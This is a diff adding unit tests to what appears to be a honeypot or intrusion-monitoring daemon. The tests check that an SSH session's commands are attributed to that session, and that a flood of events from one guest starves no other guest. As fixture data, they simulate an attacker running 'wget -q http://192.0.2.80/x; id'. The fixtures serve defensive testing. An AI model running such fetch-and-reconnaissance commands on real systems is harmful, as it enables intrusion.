@@ -20,6 +20,7 @@
 #include <fcntl.h>
 #include <ftw.h>
 #include <poll.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -328,6 +329,125 @@ static void the_next_one_goes_on(void **state)
 	stop(g);
 }
 
+/* ---- a visit ------------------------------------------------------------------------------------- */
+
+static struct sensor_text text_of(const char *s, size_t len)
+{
+	return (struct sensor_text){(const uint8_t *)s, (uint32_t)len};
+}
+
+static void comes_in(struct say *s, uint64_t visit)
+{
+	struct sensor_visit v = {.visit = visit,
+				 .pid = 300,
+				 .ver = 4,
+				 .proto = 6,
+				 .peer_port = 40000,
+				 .local_port = 22,
+				 .peer = {198, 51, 100, 66},
+				 .local = {10, 99, 0, 10},
+				 .comm = "sshd"};
+	say_record(s, SENSOR_VISIT, &v, sizeof(v), 0, NULL);
+}
+
+static void runs(struct say *s, uint64_t visit, uint32_t pid)
+{
+	static const char argv[] = "wget\0-q\0http://192.0.2.80/x";
+	const struct sensor_exec e = {.p = {.visit = visit,
+					    .pid = pid,
+					    .ppid = 300,
+					    .uid = 1000,
+					    .tty = -1,
+					    .comm = "wget"},
+				      .argc = 3};
+	const struct sensor_text t[] = {text_of("/usr/bin/wget", 13), text_of("/home/bob", 9),
+					text_of(argv, sizeof(argv))};
+	say_record(s, SENSOR_EXEC, &e, sizeof(e), 3, t);
+}
+
+static void a_command_comes_out_with_its_visit(void **state)
+{
+	struct rig *g = *state;
+	begin(g);
+	machine(g, 0);
+	say_plain(&g->say[0], SENSOR_HELLO);
+	comes_in(&g->say[0], 7);
+	runs(&g->say[0], 7, 301);
+	says(g, 0);
+	await(g, EVENT_SESSION, NULL);
+	uint64_t session = g->last.u.session.visit.session;
+	assert_string_equal(g->last.u.session.state, "begin");
+	await(g, EVENT_COMMAND, NULL);
+	const struct event_command *c = &g->last.u.command;
+	assert_string_equal(c->layer, "monitor");
+	assert_string_equal(c->visit.guest, "web1");
+	assert_true(session != 0 && c->visit.session == session);
+	assert_int_equal(c->visit.peer_port, 40000);
+	assert_int_equal(c->visit.server_port, 22);
+	assert_int_equal(c->visit.peer.ver, 4);
+	assert_string_equal(c->exe, "/usr/bin/wget");
+	assert_string_equal(c->cwd, "/home/bob");
+	/* The shell tells what was typed, by syslog. */
+	logs(g, 0,
+	     "<182>Nov 28 10:00:00 web1 sh[300]: pid=300 ppid=299 uid=1000 user=bob tty=- seq=1 "
+	     "cwd=/home/bob line=wget -q http://192.0.2.80/x; id");
+	do
+		await(g, EVENT_COMMAND, NULL);
+	while (strcmp(g->last.u.command.layer, "shell") != 0);
+	assert_string_equal(g->last.u.command.user, "bob");
+	assert_true(g->last.u.command.visit.session == session);
+	/* Its machine ends, and the visit with it. */
+	const struct msg_monitor gone = {.guest = 0};
+	assert_int_equal(ipc_send(g->super, MSG_MONITOR, &gone, sizeof(gone), NULL, 0), 0);
+	do
+		await(g, EVENT_SESSION, NULL);
+	while (strcmp(g->last.u.session.state, "end") != 0);
+	assert_true(g->last.u.session.visit.session == session);
+	stop(g);
+	close(g->serial[0][1]);
+}
+
+/* One guest says what it can, for as long as it can: the other one is heard, and memory has its end. */
+static void a_flood_starves_nobody(void **state)
+{
+	struct rig *g = *state;
+	char path[64], status[4096] = "";
+	begin(g);
+	machine(g, 0);
+	machine(g, 1);
+	fflush(NULL);
+	pid_t flood = fork();
+	assert_true(flood >= 0);
+	if (flood == 0) {
+		comes_in(&g->say[0], 7);
+		for (uint32_t pid = 400;; pid++) {
+			runs(&g->say[0], 7, pid);
+			if (write(g->serial[0][1], g->say[0].buf, g->say[0].len) < 0)
+				_exit(0);
+			g->say[0].len = 0;
+		}
+	}
+	close(g->serial[0][1]);
+	await(g, EVENT_HEALTH, "suppressed");
+	say_plain(&g->say[1], SENSOR_HELLO);
+	says(g, 1);
+	while (g->heard.guests[1].monitor_ns == 0)
+		(void)super_takes(g);
+	snprintf(path, sizeof(path), "/proc/%d/status", (int)g->pid);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	assert_true(fd >= 0 && read(fd, status, sizeof(status) - 1) > 0);
+	close(fd);
+	const char *rss = strstr(status, "VmRSS:");
+	assert_non_null(rss);
+#ifndef SKEP_SANITIZE
+	assert_true(strtoul(rss + 6, NULL, 10) < 128 << 10);
+#endif
+	kill(flood, SIGKILL);
+	waitpid(flood, NULL, 0);
+	stop(g);
+	close(g->serial[1][1]);
+}
+
 /* super is gone: it writes what it has and ends. */
 static void an_orphan_ends(void **state)
 {
@@ -343,9 +463,14 @@ static void an_orphan_ends(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		TEST(a_beat_is_heard),        TEST(lines_are_told_and_kept),
-		TEST(more_lines_than_events), TEST(rubbish_is_counted),
-		TEST(the_next_one_goes_on),   TEST(an_orphan_ends),
+		TEST(a_command_comes_out_with_its_visit),
+		TEST(a_flood_starves_nobody),
+		TEST(a_beat_is_heard),
+		TEST(lines_are_told_and_kept),
+		TEST(more_lines_than_events),
+		TEST(rubbish_is_counted),
+		TEST(the_next_one_goes_on),
+		TEST(an_orphan_ends),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
